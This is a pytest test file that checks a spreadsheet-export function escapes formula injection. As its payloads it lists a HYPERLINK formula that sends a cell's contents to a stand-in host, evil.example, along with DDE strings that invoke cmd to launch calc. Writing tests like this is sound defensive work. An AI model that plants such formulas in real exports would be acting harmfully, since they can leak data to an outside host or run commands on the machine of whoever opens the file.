"""Export cells a stranger can write into never run as spreadsheet formulas."""

from __future__ import annotations

import pytest

from privacydesk.core.spreadsheet import safe_cell


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
        "+32 2 274 48 00 +cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_shown_as_text(typed: str) -> None:
    assert safe_cell(typed) == "'" + typed


@pytest.mark.parametrize("plain", ["Noël Lemaître", "PD-2026-0001", "", "2026-11-25", "-5", "12"])
def test_ordinary_cells_and_plain_numbers_are_left_alone(plain: str) -> None:
    assert safe_cell(plain) == plain
